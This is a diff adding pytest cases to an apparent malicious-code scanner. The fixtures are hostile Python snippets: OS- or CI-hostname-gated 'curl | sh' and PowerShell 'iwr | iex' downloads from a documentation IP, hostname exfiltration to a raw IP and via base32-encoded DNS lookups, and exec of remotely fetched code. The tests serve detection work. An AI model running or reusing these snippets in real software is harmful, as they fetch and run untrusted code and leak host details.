@@ -510,3 +510,69 @@ def test_rules_are_declared_once_with_code_prefix() -> None:
     ids = [rule.id for rule in RULES]
     assert len(ids) == len(set(ids))
     assert all(i.startswith("code/") for i in ids)
+
+
+# --- OS/hostname gates, socket addresses, __import__ of a dotted name -------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'import os, subprocess\nif os.name == "nt":\n'
+        '    subprocess.call("powershell iwr http://203.0.113.9/a | iex")\n',
+        'import sys, socket\nif sys.platform.startswith("linux"):\n'
+        '    socket.gethostbyname(socket.gethostname() + ".x.collector.invalid")\n',
+        'import socket, os\nh = socket.gethostname()\nif h.startswith("ci-"):\n'
+        '    os.system("curl -s http://203.0.113.9/a | sh")\n',
+    ],
+)
+def test_os_or_hostname_check_gating_a_threat_is_flagged(source: str) -> None:
+    assert "code/environment-gated-payload" in scan(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'import os, sys, subprocess\nif sys.platform == "win32":\n'
+        '    subprocess.call(["cmd", "/c", "build.bat"])\n',
+        'import os, urllib.request\nif os.name == "posix":\n'
+        '    urllib.request.urlopen("https://example.invalid/version.json")\n',
+        "import platform, subprocess\n"
+        "def install(url):\n"
+        '    if platform.system() == "Linux":\n'
+        '        subprocess.run(["curl", "-fsSL", url, "-o", "/tmp/x"])\n',
+    ],
+)
+def test_os_check_alone_or_around_ordinary_code_is_quiet(source: str) -> None:
+    assert "code/environment-gated-payload" not in scan(source)
+
+
+def test_raw_ip_socket_address_is_suspicious_but_resolver_idiom_is_not() -> None:
+    sent = "import socket\ns = socket.socket()\ns.sendto(b'x', ('203.0.113.5', 53))\n"
+    init = "pkg/__init__.py"  # import-time code is always walked
+    assert "code/suspicious-endpoint" in scan(sent, E.IMPORT, init)
+    idiom = "import socket\ns = socket.socket()\ns.connect(('8.8.8.8', 80))\n"
+    assert "code/suspicious-endpoint" not in scan(idiom, E.IMPORT, init)
+
+
+def test_host_details_to_a_raw_ip_at_import_are_critical() -> None:
+    source = (
+        "import socket\ns = socket.socket()\n"
+        "s.sendto(socket.gethostname().encode(), ('203.0.113.5', 9999))\n"
+    )
+    found = scan(source, E.IMPORT, "pkg/__init__.py")
+    assert found["code/host-info-exfiltration"] is Severity.CRITICAL
+
+
+def test_dunder_import_of_dotted_name_returns_the_package() -> None:
+    source = 'exec(__import__("urllib.request").request.urlopen("http://203.0.113.7/").read())\n'
+    assert "code/exec-remote-code" in scan(source)
+
+
+def test_dns_label_fstring_with_inner_constants() -> None:
+    source = (
+        "import socket, base64\n"
+        "d = base64.b32encode(socket.gethostname().encode())\n"
+        "socket.gethostbyname(f\"{d.decode().rstrip('=')}.x.collector.invalid\")\n"
+    )
+    assert "code/dns-exfiltration" in scan(source)
